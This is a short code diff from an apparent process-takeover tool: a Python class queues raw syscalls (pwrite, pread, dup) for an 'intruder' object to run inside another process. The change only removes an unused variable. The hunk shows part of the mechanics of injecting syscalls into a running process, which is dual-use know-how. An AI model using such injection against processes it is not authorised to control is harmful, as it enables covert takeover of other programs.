@@ -28,7 +28,7 @@ class Takeover:
         calls.add(18, scratch, PAIR, 8, 0)  # pwrite
         pair = calls.text(b"\0" * 8)
         calls.add(17, scratch, pair, 8, 0)  # pread
-        own = calls.add(32, CHANNEL)  # dup
+        calls.add(32, CHANNEL)  # dup
         results = intruder.make(calls)
         assert min(results) >= 0, results
         self._scratch, self._own = results[1], results[-1]
